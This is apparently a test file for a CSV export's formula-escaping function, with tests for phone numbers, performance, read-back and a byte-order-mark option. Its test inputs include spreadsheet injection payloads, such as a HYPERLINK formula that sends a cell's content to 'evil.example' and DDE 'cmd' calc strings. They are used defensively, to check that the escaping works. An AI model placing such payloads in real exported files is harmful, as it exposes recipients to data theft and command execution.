import t from 'tap'
import { csvColumns, csvOf } from '../../src/export/csv.js'
import { escapeFormula } from '../../src/export/formula.js'
import { resources } from '../../src/model/index.js'
import { providers } from '../../src/providers/index.js'
import { get } from '../support/fixture.js'
import { inSandbox } from '../support/sandbox.js'

/** The cells of each line of a CSV. */
function cellsIn(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end !== ',') rows.push([])
  }
  rows.pop()
  return rows
}

const columnOf = (name: string) => csvColumns('candidates').findIndex((column) => column.name === name)

t.test('text that a spreadsheet would run as a formula starts with an apostrophe', async (t) => {
  for (const [text, cell] of [
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK("https://evil.example?"&A1)`],
    ["=cmd|' /C calc'!A1", "'=cmd|' /C calc'!A1"],
    ["+cmd|' /C calc'!A1", "'+cmd|' /C calc'!A1"],
    ["-2+3+cmd|' /C calc'!A1", "'-2+3+cmd|' /C calc'!A1"],
    ["+46 70 555 01 23 | +cmd|' /C calc'!A1", "'+46 70 555 01 23 | +cmd|' /C calc'!A1"],
    ['+46 70 555 01 23;=1', "'+46 70 555 01 23;'=1"],
    ['+46 70 555 01 23;cmd', "'+46 70 555 01 23;cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+A1', "'+A1"],
    ['-$A$1', "'-$A$1"],
    ['+1:5', "'+1:5"],
    ['+1+A1', "'+1+A1"],
    ['+1-x12', "'+1-x12"],
    ['+1x12', "'+1x12"],
    ['+1 x12:y13', "'+1 x12:y13"],
    ['+x12', "'+x12"],
    ['-e5', "'-e5"],
    ['+SUM(1)', "'+SUM(1)"],
    ['-"a"', `'-"a"`],
    ['+{1}', "'+{1}"],
    ['+1=1', "'+1=1"],
    ['+[1]', "'+[1]"],
    ['- Java', "'- Java"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['\ttext', "'\ttext"],
    ['  =1', "'  =1"],
    ['\uff1d1', "'\uff1d1"],
    ['\uff0bA1', "'\uff0bA1"],
    ['x;=cmd', "x;'=cmd"],
    ['x\n@y', "x\n'@y"],
    ['x;+1;=y', "x;'+1;'=y"],
  ] as const)
    t.equal(escapeFormula(text), cell, JSON.stringify(text))
})

t.test('phone numbers, numbers and dates do not change', async (t) => {
  for (const text of [
    '+46 70 555 01 23',
    '+46705550123',
    '+46-70-555-01-23',
    '+46 (0)70 555 01.23',
    '+1/202/555-0100',
    '(0)20 7946 0000',
    '+1 202 555 0100 x12',
    '+1 202 555 0100 ext. 12',
    '+1 202 555 0100 EXT 12',
    '+46 70 555 01 23 | +1 202 555 0100 ext. 12 | 070-555 01 23',
    '+46 70 555 01 23; +46 70 555 01 24',
    '+46 70 555 01 23\n+46 70 555 01 24',
    'mobile; +46 70 555 01 23',
    '\uff0b81 3 5555 0123',
    '+46\u00a070\u2011555',
    '-2',
    '-12.5',
    '-12,5 %',
    '-1e5',
    '+1E-5',
    '\u22125',
    '-1+1',
    '+1-2',
    '-',
    '2026-01-31',
    '2026-01-31T09:00:00.000Z',
    '-31/01/2026',
    '"=1"',
    'a-b = c + d',
    'ines@example.org',
    'Smith, "Jo"\r\nJr',
    'Zoë 🦉',
    '',
  ])
    t.equal(escapeFormula(text), text, JSON.stringify(text))
})

t.test('long text takes no long time', async (t) => {
  for (const text of [
    `${';+'.repeat(200_000)}a`,
    `+${' '.repeat(400_000)}a`,
    `+${'1 x1 '.repeat(80_000)}a`,
    `+${'1'.repeat(400_000)}e`,
    `+1 x${'1'.repeat(400_000)}`,
    '; '.repeat(200_000),
  ]) {
    const start = performance.now()
    escapeFormula(text)
    t.ok(performance.now() - start < 500, `${text.slice(0, 10)} takes ${Math.round(performance.now() - start)} ms`)
  }
})

t.test('every cell can be read back', async (t) => {
  const { row } = csvOf('candidates')
  for (const name of ["'=1", '"=1"', 'a;b', 'a\tb', 'Smith, "Jo"\r\nJr', 'Zoë 🦉', ''])
    t.equal(cellsIn(row({ ...resources.candidates.example, name }))[0]?.[columnOf('name')], name, JSON.stringify(name))
})

t.test('no phone number of the sandbox changes in a CSV', async (t) => {
  const { base } = await inSandbox(t)
  for (const { id } of providers) {
    const connection = `sandbox-${id}`
    const headers = { 'connection-id': connection }
    const lines: { type: string; data?: { phones: { value: string }[] | null } }[] = (
      await get(base, '/export/candidates', headers)
    ).body
      .split('\n')
      .filter((line: string) => line !== '')
      .map((line: string) => JSON.parse(line))
    const phones = lines
      .filter(({ type }) => type === 'record')
      .map(({ data }) => data?.phones?.map(({ value }) => value).join(' | ') ?? '')
    const csv = (await get(base, '/export/candidates', { ...headers, accept: 'text/csv' })).body
    const cells = cellsIn(csv)
      .slice(1)
      .map((row) => row[columnOf('phones')] ?? '')
    t.same(cells, phones, `${connection}: phones in CSV`)
    const count = phones.filter((phone) => /(^|\| )\+/.test(phone)).length
    t.ok(count > 800, `${connection} has ${count} people with a phone number that starts with +`)
  }
})

t.test('with csv_bom=true a CSV starts with a byte order mark', async (t) => {
  const { base } = await inSandbox(t)
  const bytes = async (query: string, accept = 'text/csv') => {
    const response = await fetch(`${base}/export/candidates${query}`, { headers: { accept } })
    t.equal(response.status, 200, query)
    return Buffer.from(await response.arrayBuffer())
  }
  const plain = await bytes('')
  const marked = await bytes('?csv_bom=true')
  t.same([...marked.subarray(0, 3)], [0xef, 0xbb, 0xbf])
  t.ok(marked.subarray(3).equals(plain), 'the rest is the same')
  t.ok((await bytes('?csv_bom=false')).equals(plain))
  t.equal((await bytes('?csv_bom=false', '*/*'))[0], '{'.charCodeAt(0))
  t.ok((await bytes('?csv_bom=true&page_size=500')).length > 0, 'with other parameters')
})

t.test('csv_bom is refused where it has no effect, and where it is not true or false', async (t) => {
  const { base } = await inSandbox(t)
  const csv = { accept: 'text/csv' }
  for (const [path, headers, detail] of [
    [
      '/export/candidates?csv_bom=true',
      {},
      'csv_bom works only for CSV: remove it, or send the header `Accept: text/csv`.',
    ],
    ['/export/candidates?csv_bom=1', csv, 'csv_bom must be true or false, or omitted.'],
    ['/export/candidates?csv_bom=true&csv_bom=true', csv, 'csv_bom must be true or false, or omitted.'],
    [
      '/export/candidates?csv_bom=yes&order=no',
      csv,
      'order must be any, or omitted; csv_bom must be true or false, or omitted.',
    ],
    ['/candidates?csv_bom=true', {}, 'csv_bom is a parameter of exports only'],
  ] as const)
    t.match(await get(base, path, headers), { status: 400, body: { type: /invalid-request/, detail } }, path)
})
